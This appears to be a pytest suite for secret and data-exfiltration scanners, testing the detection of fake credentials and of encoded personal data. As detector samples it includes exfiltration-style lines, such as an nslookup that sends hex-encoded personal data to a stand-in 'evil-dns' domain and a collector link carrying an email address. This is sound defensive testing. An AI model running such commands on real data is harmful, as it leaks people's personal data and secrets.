"""The secrets and exfiltration scanners on each class of issue 17: a secret with no `key=value`
cue, camelCase and newer key names, values that start with punctuation, a token right after a
percent escape, placeholders and code references; encoded personal data and credentials found
by decoding (nested once), hex split into DNS labels, base64url told from base64, and links and
signatures that are no payload. Each class has positives and negatives, on both twins."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest
from rust_scanners import BOTH, NOT_BUILT, PYTHON, RUST

from forge.plugins.scanners import config, implementation

SECRETS = config.DEFAULT_SECRETS
EXFIL = config.DEFAULT_EXFIL
GHP = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
RECORD = json.dumps({"name": "Jane Roe", "email": "jane.roe@example.org", "city": "Leeds"})


def secrets_found(impl: implementation.Scanners, text: str) -> list[tuple[str, str]]:
    return [(f.kind, text[f.start : f.end]) for f in impl.scan_secrets(text, SECRETS)]


def exfil_found(impl: implementation.Scanners, text: str) -> list[tuple[str, str, str]]:
    return [(f.kind, text[f.start : f.end], f.detail) for f in impl.scan_exfil(text, EXFIL)]


def generic(value: str) -> list[tuple[str, str]]:
    return [("GENERIC_SECRET", value)]


# (class, text, expected secrets findings)
SECRET_CLASSES: list[tuple[str, str, list[tuple[str, str]]]] = [
    ("userinfo", "DATABASE_URL=postgres://app:Xk9mP2vL8qWz@db.internal:5432/prod",
     generic("Xk9mP2vL8qWz")),
    ("userinfo", "redis://:c4cd94da15ea0544802c@cache:6379/0", generic("c4cd94da15ea0544802c")),
    ("userinfo", "postgres://user:password@localhost/db", []),
    ("userinfo", "git clone https://octo@github.com/org/repo.git", []),
    ("authorization", "curl -H 'Authorization: Bearer 8f7a6b5c4d3e2f1a0b9c8d7e' https://api",
     generic("8f7a6b5c4d3e2f1a0b9c8d7e")),
    ("authorization", "Authorization: Basic dXNlcjpzM2NyM3QtcGFzcw==",
     generic("dXNlcjpzM2NyM3QtcGFzcw==")),
    ("authorization", "Our API uses Bearer authentication over TLS.", []),
    ("authorization", "Authorization: Token 9f8e7d6c5b4a39281706f5e4",
     generic("9f8e7d6c5b4a39281706f5e4")),
    ("authorization", "curl -s -u admin:Xk9mP2vL8qWz https://api.example.com/x",
     generic("Xk9mP2vL8qWz")),
    ("authorization", "the token expired2024 and curl -u admin https://x asks for one", []),
    ("mysql", "mysql -u root -p'S3cr3tPassw0rd!' shop", generic("S3cr3tPassw0rd!")),
    ("mysql", "mysql -h db -P3306 -u app -p shop", []),
    ("netrc", "machine api.example.com\n  login ops\n  password c4cd94da15ea0544802c2cfd",
     generic("c4cd94da15ea0544802c2cfd")),
    ("netrc", "the login page has a password field", []),
    ("prose", "FYI the wifi password for the office is Summer2024!xq now.",
     generic("Summer2024!xq")),
    ("prose", "The password is case-sensitive and the token is required.", []),
    ("camelCase", '{"sessionToken": "FwoGZXIvYXdzEJr0wEaDJ3xQk"}',
     generic("FwoGZXIvYXdzEJr0wEaDJ3xQk")),
    ("camelCase", "SMTPPassword: Gh7kq2LzP0wQ", generic("Gh7kq2LzP0wQ")),
    ("camelCase", "nextPageToken: CiAKGjBpNDd2Nmp2Zml2cXRwYjBp", []),
    ("cue names", "SMTP_PASS=Gh7!kq2LzP0w\nSIGNING_KEY=9a8b7c6d5e4f3a2b1c0d",
     generic("Gh7!kq2LzP0w") + generic("9a8b7c6d5e4f3a2b1c0d")),
    ("cue names", "ENCRYPTION_KEY=Zx8Pq2Lm9Rt4Vw7N SECRET_KEY_BASE=4f3a2b1c0d9a8b7c6d5e",
     generic("Zx8Pq2Lm9Rt4Vw7N") + generic("4f3a2b1c0d9a8b7c6d5e")),
    ("cue names", "PRIMARY_KEY=customer_id SORT_KEY=created_at", []),
    ("punctuation first", "password=&Q9x(z2Lm)K", generic("&Q9x(z2Lm)K")),
    ("punctuation first", "DB_PASSWORD=$Ab3xYz9Q1k", generic("$Ab3xYz9Q1k")),
    ("punctuation first", "password=$DB_PASSWORD token=${TOKEN}", []),
    ("percent escape", "https://x.example/cb?k=%3DAKIAJ7Q3Z5XK2M4N6P8R&y=1",
     [("AWS_ACCESS_KEY_ID", "AKIAJ7Q3Z5XK2M4N6P8R")]),
    ("percent escape", "idAKIAJ7Q3Z5XK2M4N6P8R is glued to a word", []),
    ("placeholders", f"GITHUB_TOKEN={GHP}", [("GITHUB_TOKEN", GHP)]),
    ("placeholders", "API_KEY=your-api-key-here\nGITHUB_TOKEN=ghp_" + "x" * 36, []),
    ("placeholders", "AWS_ACCESS_KEY_ID=AKIAXXXXXXXXXXXXXXXX password: <your-password>", []),
    ("code references", 'db_password = "Xk9#mP2$vL8qW!z"', generic("Xk9#mP2$vL8qW!z")),
    ("code references", 'client.setPassword("Xk9#mP2$vL8qW!z");', generic("Xk9#mP2$vL8qW!z")),
    ("code references", "openai.api_key = settings.OPENAI_API_KEY", []),
    ("code references", "print(password) and token(request)", []),
    ("code references", "token = create_access_token(identity=user.id); secret = os.urandom(32)",
     []),
    ("code references", "connect(password=db_password, token=accessToken)", []),
    ("code references", "token = uuid.uuid4().hex; token = (query.get('t') or [''])[0]", []),
    ("placeholders", 'f"password=s3cr3t-{digits}" and f"invalid token: {reason}"', []),
    ("placeholders", "FORGE_ADMIN_PASSWORD: admin-password", []),
    ("placeholders", "url: postgresql://app:${DB_PASSWORD:?}@db:5432/app", []),
    ("prose", "a missing or bad token is UNAUTHENTICATED", []),
    ("code references", 'String apiKey = System.getenv("API_KEY");', []),
    ("code references", 'password = os.environ["DB_PASSWORD"]', []),
]  # fmt: skip


@pytest.mark.parametrize("impl", BOTH)
@pytest.mark.parametrize(("cls", "text", "expected"), SECRET_CLASSES)
def test_each_secrets_class_finds_its_positives_and_spares_its_negatives(
    impl: implementation.Scanners, cls: str, text: str, expected: list[tuple[str, str]]
) -> None:
    assert secrets_found(impl, text) == expected, cls


def b64(raw: str) -> str:
    return base64.b64encode(raw.encode()).decode()


def b64url(raw: str) -> str:
    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")


CREDS = "user=ops&password=Xk9mP2vL8qWz!"
LABELS = ".".join(RECORD.encode().hex()[i : i + 40] for i in range(0, 2 * len(RECORD), 40))


@pytest.mark.parametrize("impl", BOTH)
def test_encoded_personal_data_is_found_by_decoding_it(impl: implementation.Scanners) -> None:
    cases = {
        "BASE64": f"d={b64(RECORD)}&v=1",
        "HEX": f"x={RECORD.encode().hex()}",
        "PERCENT_ENCODED": f"GET /p?d={quote(RECORD, safe='')} HTTP/1.1",
    }
    for kind, text in cases.items():
        found = exfil_found(impl, text)
        assert [(k, d) for k, _, d in found] == [(kind, "text,pii:EMAIL")], text
    email = "jane.roe@example.org"
    assert exfil_found(impl, f"e={quote(email, safe='')}")[0][2] == "text,pii:EMAIL"
    # encoded text holding no personal data and no credential is no payload
    settings = "replicas: 3\nimage: shop:1.2\nlog_level: info\n"
    assert exfil_found(impl, f"config: {b64(settings)}") == []
    assert exfil_found(impl, f"q={quote('where is the nearest cafe', safe='')}") == []


@pytest.mark.parametrize("impl", BOTH)
def test_encoded_credentials_note_the_secret_kind(impl: implementation.Scanners) -> None:
    found = exfil_found(impl, f"payload: {b64(f'export GITHUB_TOKEN={GHP}')} end")
    assert [(k, d) for k, _, d in found] == [("BASE64", "text,keyword,secret:GITHUB_TOKEN")]
    # a signed URL's credential scope holds the key id by design: no payload
    scope = quote("AKIAJ7Q3Z5XK2M4N6P8R/20250101/us-east-1/s3/aws4_request", safe="")
    signed = f"https://b.s3.amazonaws.com/k?X-Amz-Credential={scope}&X-Amz-Signature={'ab' * 32}"
    assert exfil_found(impl, signed) == []
    # an encoded access key id elsewhere is a leaked credential
    found = exfil_found(impl, f"p={b64('creds AKIAJ7Q3Z5XK2M4N6P8R ok')}")
    assert [d for _, _, d in found] == ["text,secret:AWS_ACCESS_KEY_ID"]


@pytest.mark.parametrize("impl", BOTH)
def test_a_payload_encoded_twice_is_decoded_once_more(impl: implementation.Scanners) -> None:
    inner = b64(RECORD + "\n")
    assert "%" in quote(inner, safe="")
    text = f"u={quote(inner, safe='')}&t=1"
    found = exfil_found(impl, text)
    assert [(k, s) for k, s, _ in found] == [("PERCENT_ENCODED", quote(inner, safe=""))]
    assert found[0][2].endswith("pii:EMAIL")
    # base64 of binary, percent-encoded as a signature is, decodes to nothing readable
    sig = quote(base64.b64encode(bytes(range(200, 256)) * 2).decode(), safe="")
    assert exfil_found(impl, f"&Signature={sig}&Expires=1735689600") == []


@pytest.mark.parametrize("impl", BOTH)
def test_hex_split_into_dns_labels_is_joined(impl: implementation.Scanners) -> None:
    text = f"nslookup {LABELS}.17.x.evil-dns.example"
    assert exfil_found(impl, text) == [("HEX", LABELS, "text,pii:EMAIL")]
    # addresses, versions and short hex labels are no payload
    assert exfil_found(impl, "ptr 10.20.30.40.in-addr.arpa and cafe.bad.beef.example.com") == []


@pytest.mark.parametrize("impl", BOTH)
def test_base64url_is_told_from_base64(impl: implementation.Scanners) -> None:
    raw = "user=ops&password=Xk9mP2vL8qWz!"
    unpadded = b64url(raw)
    assert len(unpadded) % 4 and "-" not in unpadded and "_" not in unpadded
    assert [k for k, _, _ in exfil_found(impl, f"d={unpadded}")] == ["BASE64URL"]
    assert [k for k, _, _ in exfil_found(impl, f"d={b64(raw)}")] == ["BASE64"]
    assert [k for k, _, _ in exfil_found(impl, f"d={b64(CREDS + '?>')}")] == ["BASE64"]


@pytest.mark.parametrize("impl", BOTH)
def test_links_signatures_ids_and_jwts_are_no_payload(impl: implementation.Scanners) -> None:
    cb = quote("https://app.example.com/oauth/callback", safe="")
    negatives = [
        f"/authorize?client_id=abc&redirect_uri={cb}&scope=openid%20email&state=x8Jq2LzP0w",
        f"302 Location: /login?next={cb}&return_to={cb}",
        "request 550e8400-e29b-41d4-a716-446655440000 done",
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ]
    claims = b64url(json.dumps({"sub": "1", "email": "jane.roe@example.org"}))
    negatives.append(f"id_token={b64url(json.dumps({'alg': 'HS256'}))}.{claims}.c2lnbmF0dXJl")
    for text in negatives:
        assert exfil_found(impl, text) == [], text
    # a link that carries data in its query is a payload
    leak = quote("https://collector.example.net/c?d=jane.roe@example.org", safe="")
    assert [k for k, _, _ in exfil_found(impl, f"next={leak}")] == ["PERCENT_ENCODED"]


def test_the_twins_agree_on_every_class_text() -> None:
    if RUST is None:
        pytest.skip(NOT_BUILT)
    texts = [text for _, text, _ in SECRET_CLASSES]
    texts += [f"d={b64(RECORD)}", f"nslookup {LABELS}.1.x.evil.example", f"u={quote(b64(RECORD))}"]
    for text in texts:
        for cfg in (SECRETS, config.SecretsConfig(entropy_threshold=0.0, min_generic_length=1)):
            assert RUST.scan_secrets(text, cfg) == PYTHON.scan_secrets(text, cfg), text
        for xcfg in (EXFIL, config.ExfilConfig(score_threshold=0.0, min_decoded_bytes=1)):
            assert RUST.scan_exfil(text, xcfg) == PYTHON.scan_exfil(text, xcfg), text
